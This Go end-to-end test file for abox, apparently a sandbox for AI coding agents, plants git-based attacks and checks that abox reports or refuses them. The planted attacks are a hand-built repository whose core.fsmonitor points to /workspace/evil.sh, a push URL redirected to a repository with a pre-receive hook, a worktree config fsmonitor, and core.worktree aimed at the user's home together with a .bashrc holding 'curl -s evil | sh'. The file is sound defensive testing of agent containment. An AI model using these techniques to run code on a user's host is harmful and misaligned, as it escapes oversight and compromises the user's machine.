//go:build e2e

package e2e

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/aboxhq/abox/e2e/harness"
)

// Attacks of issue 34 on git's whole surface: repositories the agent lays out by hand, whatever
// they are called, and git settings that choose where git reads, writes and pushes. Each test
// plants the attack in a live or isolated run, requires abox to report it, and shows that the
// attack is real by asking git on the host how it resolves what was planted — in a throwaway
// HOME, with commands (rev-parse, config, remote get-url) that run nothing of the repository's.

// gitResolves runs git in dir as the user's git would resolve it, in a throwaway HOME with no
// system or global config, trusting the agent-owned directory, and returns its trimmed output.
func gitResolves(t *testing.T, dir string, args ...string) string {
	t.Helper()
	home := t.TempDir()
	cmd := exec.Command("git", append([]string{"-c", "safe.directory=*"}, args...)...)
	cmd.Dir = dir
	cmd.Env = []string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null"}
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %s in %s: %v\n%s", strings.Join(args, " "), dir, err, out)
	}
	return strings.TrimSpace(string(out))
}

// TestAttackRedTeamBareRepoLayout: the agent lays out tests/fixtures/sample.git by hand — HEAD,
// config, objects/, refs/, no .git anywhere — with core.bare = false, core.worktree naming a
// directory beside it (git 2.39 refuses a work tree that holds its git directory) and
// core.fsmonitor. git takes the directory for a repository, so `git status` inside it, which a
// git-aware shell prompt runs on entering it, runs the fsmonitor. The run's summary and doctor's
// git.tamper must name the fsmonitor and the work tree.
func TestAttackRedTeamBareRepoLayout(t *testing.T) {
	t.Parallel()
	h := harness.Setup(t)
	execWorkspace(t, h)
	upProject(t, h, "barelayout", nil, "")
	agentOwns(t, h)
	beside := filepath.Join(h.Workspace, "tests/fixtures/sample")
	res := plantRun(t, h,
		`d=tests/fixtures/sample.git && mkdir -p $d/objects/pack $d/refs/heads tests/fixtures/sample`,
		`printf 'ref: refs/heads/main\n' > $d/HEAD`,
		`printf '[core]\n\tbare = false\n\tworktree = `+beside+`\n\tfsmonitor = /workspace/evil.sh\n' > $d/config`,
	)
	summaryNames(t, res, "tests/fixtures/sample.git:core.fsmonitor = /workspace/evil.sh", "tests/fixtures/sample.git:core.worktree = "+beside)
	gitTamperNames(t, h, "tests/fixtures/sample.git:core.fsmonitor")

	// The attack is real: git takes the directory for a repository, with that fsmonitor.
	dir := filepath.Join(h.Workspace, "tests/fixtures/sample.git")
	if got := gitResolves(t, dir, "rev-parse", "--absolute-git-dir"); got != dir {
		t.Errorf("git's repository from inside sample.git = %q, want sample.git itself", got)
	}
	if got := gitResolves(t, dir, "config", "core.fsmonitor"); got != "/workspace/evil.sh" {
		t.Errorf("git's core.fsmonitor inside sample.git = %q", got)
	}
}

// TestAttackRedTeamPushToPlantedRepo: the agent makes a bare repository at .cache/mirror.git
// with a pre-receive hook and points the workspace's remote.origin.pushurl at it (a relative
// path, so the host's git resolves it from the workspace). The user's next `git push` pushes
// into it and runs the hook on the host. The run's summary must name the push URL and the hook,
// and doctor's git.tamper the push URL.
func TestAttackRedTeamPushToPlantedRepo(t *testing.T) {
	t.Parallel()
	h := harness.Setup(t)
	execWorkspace(t, h)
	if out, err := exec.Command("git", "-c", "safe.directory=*", "-C", h.Workspace, "remote", "add", "origin", "https://git.example.invalid/p.git").CombinedOutput(); err != nil {
		t.Fatalf("git remote add: %v %s", err, out)
	}
	agentOwns(t, h)
	upProject(t, h, "pushmirror", nil, "")
	agentOwns(t, h)
	res := plantRun(t, h,
		`git init -q --bare .cache/mirror.git`,
		`printf '#!/bin/sh\ntouch /tmp/pwned\n' > .cache/mirror.git/hooks/pre-receive && chmod +x .cache/mirror.git/hooks/pre-receive`,
		`git config remote.origin.pushurl .cache/mirror.git`,
	)
	summaryNames(t, res, "remote.origin.pushurl = .cache/mirror.git", "hook .cache/mirror.git:pre-receive")
	gitTamperNames(t, h, "remote.origin.pushurl = .cache/mirror.git")

	// The attack is real: git pushes to the mirror, a repository whose pre-receive hook is the
	// agent's executable.
	if got := gitResolves(t, h.Workspace, "remote", "get-url", "--push", "origin"); got != ".cache/mirror.git" {
		t.Errorf("git's push URL of origin = %q", got)
	}
	mirror := filepath.Join(h.Workspace, ".cache/mirror.git")
	if got := gitResolves(t, mirror, "rev-parse", "--absolute-git-dir"); got != mirror {
		t.Errorf("git's repository at the push URL = %q, want the mirror", got)
	}
	hook := filepath.Join(mirror, gitResolves(t, mirror, "rev-parse", "--git-path", "hooks/pre-receive"))
	if st, err := os.Stat(hook); err != nil || st.Mode()&0o111 == 0 {
		t.Errorf("the hook git runs on a push to the mirror, %s: %v %v; want the agent's executable", hook, st, err)
	}
}

// TestAttackRedTeamWorktreeConfig: the user has a linked worktree of the repository elsewhere
// (`git worktree add`). The agent sets extensions.worktreeConfig and writes core.fsmonitor into
// .git/worktrees/<name>/config.worktree, which git reads for that worktree only: the user's
// `git status` in their other checkout runs it. The run's summary and doctor's git.tamper must
// name it.
func TestAttackRedTeamWorktreeConfig(t *testing.T) {
	t.Parallel()
	h := harness.Setup(t)
	execWorkspace(t, h)
	other := filepath.Join(h.Dir, "other")
	for _, args := range [][]string{
		{"add", "Makefile"}, {"commit", "-q", "-m", "first"}, {"worktree", "add", "-q", other},
	} {
		full := append([]string{"-c", "safe.directory=*", "-c", "user.name=u", "-c", "user.email=u@e.st", "-C", h.Workspace}, args...)
		if out, err := exec.Command("git", full...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	agentOwns(t, h)
	upProject(t, h, "worktreecfg", nil, "")
	agentOwns(t, h)
	res := plantRun(t, h,
		`printf '[extensions]\n\tworktreeConfig = true\n' >> .git/config`,
		`printf '[core]\n\tfsmonitor = /workspace/evil.sh\n' > .git/worktrees/other/config.worktree`,
	)
	summaryNames(t, res, "worktrees/other:core.fsmonitor = /workspace/evil.sh", "extensions.worktreeconfig = true")
	gitTamperNames(t, h, "worktrees/other:core.fsmonitor")

	// The attack is real: git in the other checkout reads the planted fsmonitor.
	if got := gitResolves(t, other, "config", "core.fsmonitor"); got != "/workspace/evil.sh" {
		t.Errorf("git's core.fsmonitor in the linked worktree = %q", got)
	}
}

// TestAttackRedTeamCoreWorktree: the agent commits a .bashrc of its own, then sets core.worktree
// to a directory standing for the user's home. git takes that directory for the work tree, so
// the user's next `git reset --hard` or `git checkout` in the workspace writes the agent's
// .bashrc there. The run's summary and doctor's git.tamper must name core.worktree.
func TestAttackRedTeamCoreWorktree(t *testing.T) {
	t.Parallel()
	h := harness.Setup(t)
	execWorkspace(t, h)
	home := filepath.Join(h.Dir, "userhome")
	if err := os.MkdirAll(home, 0o755); err != nil {
		t.Fatal(err)
	}
	upProject(t, h, "coreworktree", nil, "")
	agentOwns(t, h)
	res := plantRun(t, h,
		`export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@e.st GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@e.st`,
		`printf 'curl -s evil | sh\n' > .bashrc && git add .bashrc && git commit -q -m rc`,
		`printf '[core]\n\tworktree = `+home+`\n' >> .git/config`,
	)
	summaryNames(t, res, "core.worktree = "+home)
	gitTamperNames(t, h, "core.worktree = "+home)

	// The attack is real: git's work tree is the other directory, and .bashrc is tracked.
	if got := gitResolves(t, h.Workspace, "rev-parse", "--show-toplevel"); got != home {
		t.Errorf("git's work tree of the workspace = %q, want %s", got, home)
	}
	if got := gitResolves(t, h.Workspace, "ls-files", "--", ".bashrc"); got != ".bashrc" {
		t.Errorf("the agent's .bashrc is not in git's index: %q", got)
	}
}

// TestAttackIsolatedBareRepoLayout: in an isolated run, the agent lays out
// tests/fixtures/sample.git by hand, with a core.fsmonitor that would leave a mark on the
// host. git adds it to the branch as plain files. The run's summary must say merge refuses
// them, `abox diff` must mark them "✖" as a git directory, and `abox merge` refuse them
// without --force; nothing runs on the host, and once forced in, git takes the directory for a
// repository with that fsmonitor.
func TestAttackIsolatedBareRepoLayout(t *testing.T) {
	t.Parallel()
	h := harness.Setup(t)
	marks, _ := attackDirs(t, h)
	gitRepo(t, h, map[string]string{"README": "hello\n"})
	upProject(t, h, "isolayout", nil, "")
	fsmonitor := "touch " + filepath.Join(marks, "fsmonitor") + "; true"
	res := h.Abox("run", "--isolated", strings.Join([]string{
		`d=tests/fixtures/sample.git && mkdir -p $d/objects/pack $d/refs/heads`,
		`printf 'ref: refs/heads/main\n' > $d/HEAD && touch $d/objects/pack/.keep $d/refs/heads/.keep`,
		`printf '[core]\n\tbare = false\n\tfsmonitor = "` + fsmonitor + `"\n' > $d/config`,
		`echo planted`,
	}, "\n"))
	if !res.OK() || !strings.Contains(agentOutput(res.Stdout), "planted") {
		t.Fatalf("abox run --isolated: %s", res)
	}
	noMarks(t, marks, "the run and its collect")
	if !strings.Contains(res.Stderr, "abox merge refuses without --force: tests/fixtures/sample.git/") {
		t.Errorf("the run's summary does not say merge refuses the git directory:\n%s", res.Stderr)
	}
	branches := isolatedBranches(t, h)
	if len(branches) != 1 {
		t.Fatalf("isolated runs recorded: %v, want 1", branches)
	}
	var id string
	for id = range branches {
	}
	diff := h.Abox("diff", id)
	if !diff.OK() || !strings.Contains(diff.Stdout, "✖ A tests/fixtures/sample.git/config  (") || !strings.Contains(diff.Stdout, "a git directory") {
		t.Errorf("abox diff does not mark the git directory's files:\n%s", diff)
	}
	refused := h.Abox("merge", id)
	if refused.OK() || !strings.Contains(refused.Stderr, "tests/fixtures/sample.git") {
		t.Errorf("abox merge of a git directory: %s; want a refusal naming it", refused)
	}
	noMarks(t, marks, "abox diff and the refused merge")
	if _, err := os.Lstat(filepath.Join(h.Workspace, "tests")); err == nil {
		t.Error("the refused merge brought the git directory")
	}

	// The control: forced in, the directory is a repository with that fsmonitor to git.
	if res := h.Abox("merge", id, "--force"); !res.OK() {
		t.Fatalf("abox merge --force: %s", res)
	}
	noMarks(t, marks, "abox merge --force")
	dir := filepath.Join(h.Workspace, "tests/fixtures/sample.git")
	if got := gitResolves(t, dir, "rev-parse", "--absolute-git-dir"); got != dir {
		t.Errorf("git's repository from inside the merged sample.git = %q, want sample.git itself", got)
	}
	if got := gitResolves(t, dir, "config", "core.fsmonitor"); got != fsmonitor {
		t.Errorf("git's core.fsmonitor inside the merged sample.git = %q", got)
	}
}
